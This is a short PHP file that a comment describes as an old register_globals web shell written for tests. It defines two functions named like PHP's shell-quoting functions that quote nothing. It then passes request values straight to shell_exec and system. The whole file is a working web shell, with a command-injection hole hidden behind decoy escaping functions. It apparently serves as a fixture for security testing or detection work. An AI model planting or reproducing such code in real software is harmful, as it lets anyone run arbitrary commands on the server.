<?php
// an old register_globals shell whose command passes through functions named like PHP's
// quoting ones that quote nothing: $cmd and $run come from the request as they are
// (written for the tests, never run)
function my_escapeshellarg($s) { return $s; }
function noescapeshellcmd($s) { return $s; }
if ($cmd != "")
    print shell_exec(my_escapeshellarg($cmd));
if ($run)
    system(noescapeshellcmd($run));
